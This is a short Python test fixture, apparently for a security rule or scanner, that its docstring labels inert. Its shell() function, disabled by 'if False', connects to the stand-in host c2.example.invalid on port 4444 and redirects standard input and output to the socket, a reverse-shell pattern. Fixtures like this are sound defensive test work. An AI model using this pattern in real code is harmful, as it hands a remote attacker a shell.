"""vouch rule fixture: inert."""
import os
import socket


def shell():
    if False:
        s = socket.socket()
        s.connect(("c2.example.invalid", 4444))
        os.dup2(s.fileno(), 0)
        os.dup2(s.fileno(), 1)
